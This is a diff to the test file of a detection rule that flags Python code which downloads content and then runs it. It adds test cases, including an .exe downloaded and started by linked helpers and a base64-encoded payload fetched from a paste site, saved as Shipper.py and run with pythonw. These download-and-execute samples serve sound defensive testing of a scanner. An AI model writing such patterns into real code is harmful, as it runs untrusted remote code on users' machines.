@@ -3,6 +3,7 @@ import rule from './py-download-exec.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'a helper returns downloaded JSON that is saved; nothing runs it', file: 'cache.py', code: `import json, requests\ndef fetch():\n    return requests.get('https://api.example.org/x').json()\ndef save(data):\n    with open('cache.json', 'w') as f:\n        f.write(json.dumps(data))\nsave(fetch())\n` },
     { name: 'downloaded page saved as .html and opened in the browser', file: 'http.py', code: `import os, socket, subprocess\ndef req(host, display=True):\n    sock = socket.socket()\n    ans = sock.recv(4096)\n    if display:\n        file = get_temp_file(autoext=".html")\n        with open(file, "wb") as fd:\n            fd.write(ans)\n        os.startfile(file)\n        subprocess.Popen(["xdg-open", file])\n` },
     { name: 'downloaded JSON piped into jq (not an interpreter of code)', file: 'jq.py', code: `import requests, subprocess\nr = requests.get("https://api.example.org/items")\np = subprocess.Popen(["jq", "."], stdin=subprocess.PIPE)\np.communicate(r.content)\n` },
     { name: 'a local script piped into python', file: 'runpy.py', code: `import subprocess, sys, requests\nrequests.get("https://api.example.org/ping")\np = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\np.communicate(open("local.py", "rb").read())\n` },
@@ -63,7 +64,7 @@ ruleTest(rule, {
       name: 'download helper and run helper for an .exe',
       file: 'tools.py',
       code: `import requests, subprocess\ndef dl(url, path):\n    r = requests.get(url)\n    with open(path, "wb") as f:\n        f.write(r.content)\ndef run(path):\n    subprocess.Popen(path)\ndl("https://raw.example-host.net/u/pics.exe", "pics.exe")\nrun("pics.exe")\n`,
-      findings: [{ line: 7, severity: 'high', message: /Writes downloaded content to a file and starts a process/ }],
+      findings: [{ line: 7, severity: 'critical', confidence: 'high', message: /Runs the file it downloaded \(written in dl\(\), started in run\(\) with the same path\)/ }],
     },
     {
       name: 'PowerShell decode-and-run script written out and started hidden',
@@ -82,6 +83,18 @@ ruleTest(rule, {
       file: 'i.py',
       code: `import subprocess, urllib.request\nscript = urllib.request.urlopen("https://x.example.net/i.sh").read()\nsubprocess.run(["bash"], input=script)\n`,
       findings: [{ line: 3, message: /Pipes code downloaded/ }],
+    },
+    {
+      name: 'helpers not linked by a path: writes a download and starts an unrelated process',
+      file: 'tools2.py',
+      code: `import requests, subprocess\ndef dl(url, path):\n    r = requests.get(url)\n    with open(path, "wb") as f:\n        f.write(r.content)\ndef notify():\n    subprocess.Popen(["notify-send", "done"])\ndl("https://raw.example-host.net/u/tool.exe", "tool.exe")\nnotify()\n`,
+      findings: [{ line: 7, severity: 'high', confidence: 'medium', message: /Writes downloaded content to a file and starts a process/ }],
+    },
+    {
+      name: 'download decoded in one helper, saved as .py by another, run by a third',
+      file: 'poller.py',
+      code: `import base64, os, requests, subprocess\ndef fetch():\n    r = requests.get('https://paste.example.net/raw')\n    code = base64.b64decode(r.text).decode()\n    return code\ndef save(code):\n    path = os.getcwd() + '/Shipper.py'\n    with open(path, 'w') as f:\n        f.write(code)\n    return path\ndef run(p):\n    subprocess.call(['pythonw', p])\ndef main():\n    c = fetch()\n    p = save(c)\n    run(p)\n`,
+      findings: [{ line: 12, severity: 'critical', confidence: 'high', message: /Runs the file it downloaded \(written in save\(\), started in run\(\)/ }],
     },
   ],
 });
